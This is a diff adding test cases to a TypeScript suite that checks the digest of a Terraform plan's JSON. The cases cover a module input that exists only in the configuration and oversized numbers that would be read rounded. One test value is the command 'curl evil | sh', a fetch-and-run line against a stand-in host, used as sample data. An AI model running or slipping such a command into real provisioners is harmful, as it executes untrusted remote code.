@@ -579,6 +579,15 @@ describe("digest: what only the configuration shows", () => {
           p.variables.region.value = "us-east-1";
         },
       ],
+      [
+        // The module's provisioner runs `var.cmd`: the value is only in the call's input expression.
+        "module input",
+        (p) => {
+          (p.configuration.root_module.module_calls.app as Record<string, unknown>).expressions = {
+            cmd: { constant_value: "curl evil | sh" },
+          };
+        },
+      ],
     ];
     for (const [label, edit] of edits) {
       const p = base();
@@ -591,6 +600,27 @@ describe("digest: what only the configuration shows", () => {
     const p = base();
     (resource(p).expressions as Record<string, unknown>).ami = { references: ["var.ami"] };
     assert.equal(streamed(JSON.stringify(p)).digest, d);
+  });
+
+  it("refuses a number that would be read rounded in the parts it holds", () => {
+    const big = `1${"0".repeat(400)}`;
+    const edits: [string, (t: string) => string][] = [
+      ["variable", (t) => t.replace('"value":"eu-west-1"', `"value":${big}`)],
+      [
+        "provider configuration",
+        (t) => t.replace('"constant_value":"us-west-2"', '"constant_value":12345678901234567890123'),
+      ],
+      ["provisioner", (t) => t.replace('"constant_value":"echo hi"', `"constant_value":${big}`)],
+    ];
+    for (const [label, edit] of edits) {
+      const t = edit(JSON.stringify(base()));
+      assert.notEqual(t, JSON.stringify(base()), label);
+      assert.throws(
+        () => streamed(t),
+        /p\.json:1:\d+: (a number|an integer) too large to be read exactly/,
+        label,
+      );
+    }
   });
 
   it("is the same whatever the key order of the provider configurations", () => {
